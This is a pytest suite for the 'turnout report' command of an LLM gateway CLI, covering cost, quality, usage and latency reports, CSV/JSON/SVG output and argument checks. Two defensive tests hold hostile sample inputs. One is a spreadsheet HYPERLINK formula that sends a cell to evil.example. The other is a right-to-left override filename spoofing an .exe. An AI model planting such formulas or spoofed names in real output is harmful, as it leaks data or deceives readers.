"""``turnout report`` through click's CliRunner, on a seeded SQLite ledger (the gateway's
factory, as configured), in every format and with a chart."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner, Result

from tests.test_reports import BASE, ledger
from turnout.cli._common import parse_time
from turnout.cli.main import main
from turnout.cli.report import parse_by
from turnout.ledger.record import LedgerRow
from turnout.ledger.sqlite import SQLiteStore

WINDOW = ("--since", "2026-03-02", "--until", "2026-03-05")
CONFIG = """\
targets:
  primary: {provider: openai, base_url: "http://primary.invalid/v1", model: m1}
tasks:
  support: {route: [primary]}
store:
  kind: sqlite
  path: %s
"""


def seeded(tmp_path: Path, rows: list[LedgerRow]) -> str:
    """A config whose SQLite ledger holds ``rows``."""
    db = tmp_path / "ledger.db"

    async def seed() -> None:
        store = SQLiteStore(db)
        await store.open()
        await store.write_batch(rows)
        await store.aclose()

    asyncio.run(seed())
    path = tmp_path / "turnout.yaml"
    path.write_text(CONFIG % db)
    return str(path)


@pytest.fixture
def cfg(tmp_path: Path) -> str:
    return seeded(tmp_path, ledger())


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), env={"TURNOUT_CONFIG": None})


def test_cost_table_by_release(cfg: str) -> None:
    result = invoke("report", "cost", *WINDOW, "--by", "release", "--review-cost", "3", "-c", cfg)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith("Cost per completed task, 2026-03-02 00:00 → 2026-03-05 00:00 UTC")
    total = next(line for line in lines if line.startswith("(all)"))
    assert "$0.1000" in total and "$1.1000" in total  # 0.60/6, (0.60 + 2×3)/6


def test_json_and_csv(cfg: str) -> None:
    result = invoke("report", "quality", *WINDOW, "--format", "json", "-c", cfg)
    payload = orjson.loads(result.stdout)
    assert payload["by"] == ["release"]  # quality is per release unless told
    assert [r["success_rate"] for r in payload["rows"]] == [0.75, 0.75]  # v1, v2
    assert payload["total"]["success_rate"] == 0.75
    csv_out = invoke("report", "usage", *WINDOW, "--by", "tenant", "--format", "csv", "-c", cfg).stdout
    assert csv_out.splitlines()[0].startswith("tenant,requests,prompt_tokens_per_request")
    assert csv_out.splitlines()[1].startswith("acme,10,100.0,20.0,1200")


def test_filters_and_an_empty_window(cfg: str) -> None:
    assert (
        "no requests in this window"
        in invoke("report", "cost", "--since", "2020-01-01", "--until", "2020-02-01", "-c", cfg).stdout
    )
    assert "no requests" in invoke("report", "latency", *WINDOW, "--tenant", "globex", "-c", cfg).stdout


def test_two_tenants_episodes_of_one_id_are_two_tasks(tmp_path: Path) -> None:
    # acme's T-1 failed (rows 0-1), globex's T-1 succeeded (rows 2-3), all of release v1 or v2
    rows = [dataclasses.replace(r, episode_id="T-1", outcome="failure") for r in ledger()[:2]] + [
        dataclasses.replace(r, episode_id="T-1", tenant="globex") for r in ledger()[2:4]
    ]
    result = invoke("report", "quality", *WINDOW, "--by", "task", "--format", "json", "-c", seeded(tmp_path, rows))
    assert result.exit_code == 0, result.output
    [row] = orjson.loads(result.stdout)["rows"]
    assert (row["tasks"], row["outcomes"], row["successes"]) == (2, 2, 1)


def test_csv_names_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    # An unknown task's row keeps the name the client sent (printable, masked): here a formula.
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    rows = [dataclasses.replace(r, task=name, status=404) for r, name in zip(ledger(), hostile, strict=False)]
    result = invoke("report", "cost", *WINDOW, "--by", "task", "--format", "csv", "-c", seeded(tmp_path, rows))
    assert result.exit_code == 0, result.output
    cells = [line[0] for line in csv.reader(io.StringIO(result.stdout))][1:]
    assert sorted(cells) == sorted(["'" + name for name in hostile] + ["(all)"])


def test_a_table_shows_names_in_the_order_they_were_written(tmp_path: Path) -> None:
    """A right-to-left override (U+202E) in a name reversed the rest of its line on a terminal
    that honours it: ``evil\u202ecod.exe`` read as ``evilexe.doc``, a report line forged."""
    name = "evil\u202ecod.exe \u2067x\u2069 \u200f"
    rows = [dataclasses.replace(r, task=name) for r in ledger()[:2]]
    result = invoke("report", "cost", *WINDOW, "--by", "task", "-c", seeded(tmp_path, rows))
    assert result.exit_code == 0, result.output
    assert "evil?cod.exe ?x? ?" in result.stdout
    assert not any(ch in result.stdout for ch in "\u202e\u2067\u2069\u200f")


def test_a_chart_is_written_as_svg(cfg: str, tmp_path: Path) -> None:
    out = tmp_path / "latency.svg"
    result = invoke("report", "latency", *WINDOW, "--chart", str(out), "-c", cfg)
    assert result.exit_code == 0, result.output
    root = ET.fromstring(out.read_text())  # noqa: S314 - our own output
    assert sum(1 for e in root.iter() if e.get("class") == "point") == 9


def test_png_is_refused_with_a_hint(cfg: str, tmp_path: Path) -> None:
    result = invoke("report", "cost", "--chart", str(tmp_path / "c.png"), "-c", cfg)
    assert result.exit_code == 2 and ".svg" in result.output


def test_bad_arguments_are_usage_errors(cfg: str) -> None:
    assert invoke("report", "cost", "--by", "colour", "-c", cfg).exit_code == 2
    assert invoke("report", "cost", "--since", "yesterday", "-c", cfg).exit_code == 2
    assert invoke("report", "cost", "--since", "1d", "--until", "2d", "-c", cfg).exit_code == 2
    assert invoke("report", "cost", "--review-cost", "-1", "-c", cfg).exit_code == 2
    for value in ("nan", "inf"):  # printed as $nan before
        refused = invoke("report", "cost", "--review-cost", value, "-c", cfg)
        assert refused.exit_code == 2 and "is not a finite number" in refused.output


def test_a_missing_ledger_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "turnout.yaml"
    path.write_text(CONFIG % (tmp_path / "none.db"))
    result = invoke("report", "cost", "-c", str(path))
    assert result.exit_code == 1 and "no ledger at" in result.stderr
    assert not (tmp_path / "none.db").exists()  # reading never creates one


def test_parse_when_and_by() -> None:
    # --since and --until count back from now, in the one grammar of every command.
    assert parse_time("7d", BASE, ago=True) == BASE - 7 * 86400
    assert parse_time("90m", BASE, ago=True) == BASE - 5400
    assert parse_time("2026-03-02", 0, ago=True) == BASE
    assert parse_time("2026-03-02T01:00:00+01:00", 0, ago=True) == BASE
    assert parse_by("task, release") == ("task", "release")
    with pytest.raises(ValueError, match="twice"):
        parse_by("task,task")


def test_a_window_past_a_page_is_read_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It read the oldest 2,000,000 rows and printed them as the whole window (a warning on
    stderr only): the ledger is read a page at a time, to its end, with nothing held but counts."""
    monkeypatch.setattr("turnout.cli._common.LEDGER_LIMIT", 4, raising=False)  # the old cap, if any
    monkeypatch.setattr("turnout.ledger.store.PAGE", 3, raising=False)
    result = invoke("report", "cost", *WINDOW, "--by", "release", "--format", "json", "-c", seeded(tmp_path, ledger()))
    assert result.exit_code == 0, result.output
    payload = orjson.loads(result.stdout)
    assert payload["total"]["requests"] == 10 and payload["total"]["spend_usd"] == pytest.approx(0.60)
    assert [r["requests"] for r in payload["rows"]] == [5, 5] and result.stderr == ""


def test_a_tenant_named_all_is_not_the_total(tmp_path: Path) -> None:
    rows = [dataclasses.replace(r, tenant="all" if i < 3 else "acme") for i, r in enumerate(ledger())]
    cfg = seeded(tmp_path, rows)
    payload = orjson.loads(invoke("report", "usage", *WINDOW, "--by", "tenant", "--format", "json", "-c", cfg).stdout)
    assert [(r["tenant"], r["requests"]) for r in payload["rows"]] == [("acme", 7), ("all", 3)]
    assert payload["total"]["requests"] == 10 and "tenant" not in payload["total"]
    table = invoke("report", "usage", *WINDOW, "--by", "tenant", "-c", cfg).stdout.splitlines()
    named = [line.split()[:2] for line in table if line.split()[:1] in (["acme"], ["all"], ["(all)"])]
    assert named == [["acme", "7"], ["all", "3"], ["(all)", "10"]]
    text = invoke("report", "usage", *WINDOW, "--by", "tenant", "--format", "csv", "-c", cfg).stdout
    csv_rows = list(csv.reader(io.StringIO(text)))
    assert [r[:2] for r in csv_rows[1:]] == [["acme", "7"], ["all", "3"], ["(all)", "10"]]
